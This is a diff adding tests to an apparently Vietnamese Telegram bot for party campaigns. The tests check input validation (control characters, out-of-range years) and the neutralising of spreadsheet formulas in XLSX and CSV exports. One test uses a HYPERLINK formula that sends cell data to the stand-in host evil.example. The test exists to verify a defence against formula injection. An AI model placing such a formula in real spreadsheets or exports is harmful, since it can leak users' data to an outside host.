@@ -4,6 +4,8 @@ entities and UTF-16 lengths the way Telegram does."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from collections.abc import Awaitable, Callable
 
@@ -109,3 +111,67 @@ async def test_emoji_count_as_telegram_counts_them(org: Harness) -> None:
         h, BICH, lambda: h.server.press_button(BICH, skipped[-1], button_text="Xem trước")
     )
     assert action in _shown(preview)
+
+
+async def _new_campaign(h: Harness) -> None:
+    created = await h.cli("campaign", "create", "--year", "2026", "--topic", "Nêu gương 2026")
+    assert created[0] == 0, created
+
+
+async def test_control_characters_are_refused_at_the_door(org: Harness) -> None:
+    await _new_campaign(org)
+    menu = await org.say(BICH, "/commit")
+    await org.press(BICH, menu, IDEOLOGY)
+    refused = await org.say(BICH, "Đọc sách\x07 mỗi ngày\x01 một giờ")
+    assert "ký tự ẩn" in refused.text and "gõ lại" in refused.text
+    assert not refused.buttons  # nothing saved, still at the same step
+    # Newlines and tabs are ordinary typing; the step goes on.
+    saved = await org.say(BICH, "Đọc sách mỗi ngày\n\tmột giờ")
+    assert "Đã lưu" in saved.text
+    # Commands too, and people not registered yet (their name would be stored).
+    assert "ký tự ẩn" in (await org.say(BICH, "/commit\x1b")).text
+    org.server.add_user(4242, "Lạ", language_code="vi")
+    assert "ký tự ẩn" in (await org.say(4242, "Nguyễn\x00 Văn Lạ")).text
+
+
+async def test_typed_formulas_reach_the_exports_inert(org: Harness) -> None:
+    from openpyxl import load_workbook
+
+    await _new_campaign(org)
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'
+    menu = await org.say(BICH, "/commit")
+    prompt = await org.press(BICH, menu, IDEOLOGY)
+    assert "ký tự" in prompt.text
+    asked = await org.say(BICH, formula)
+    menu = await org.press(BICH, asked, "Bỏ qua")
+    confirm = await org.press(BICH, menu, "Gửi")
+    await org.press(BICH, confirm, "Xác nhận")
+    assert "đã nộp" in (await org.server.next_message(SECRETARY)).text  # the alert
+    progress = await org.say(SECRETARY, "/commitments")
+    org.server.press_button(SECRETARY, progress, button_text="XLSX")
+    sent = await org.next_new(SECRETARY)
+    assert sent.file_name == "cam-ket-2026-chi-bo-khu-vuc-1.xlsx"
+    sheet = load_workbook(io.BytesIO(sent.file_bytes)).active
+    cells = [row[6] for row in sheet.iter_rows(min_row=2) if row[1].value == "DV002"]
+    assert [(c.value, c.data_type) for c in cells] == [(formula, "s")]
+    org.server.press_button(SECRETARY, progress, button_text="CSV")
+    sent = await org.next_new(SECRETARY)
+    assert sent.file_name == "cam-ket-2026-chi-bo-khu-vuc-1.csv"
+    rows = list(csv.reader(io.StringIO(sent.file_bytes.decode("utf-8-sig"))))
+    assert [r[6] for r in rows if r[1] == "DV002"] == ["'" + formula]
+
+
+async def test_years_0_and_9999_are_refused_saying_which_years(org: Harness) -> None:
+    for period in ("9999", "Q1/0000", "31/12/9999-31/12/9999"):
+        refused = await _replies(
+            org, SECRETARY, lambda p=period: org.server.send_text(SECRETARY, f"/session report {p}")
+        )
+        assert "từ 2000 đến 2100" in _shown(refused), period
+    ask = await org.say(SECRETARY, "/session new")
+    ask_topic = await org.press(SECRETARY, ask, "Sinh hoạt chi bộ thường kỳ")
+    assert "chủ đề" in ask_topic.text
+    assert "Thời gian bắt đầu" in (await org.say(SECRETARY, "Sinh hoạt chi bộ tháng 12")).text
+    refused = await org.say(SECRETARY, "31/12/9999 23:30")
+    assert "từ 2000 đến 2100" in refused.text and not refused.buttons
+    echo = await org.say(SECRETARY, "31/12/2026 19:30")
+    assert "Có đúng không" in echo.text
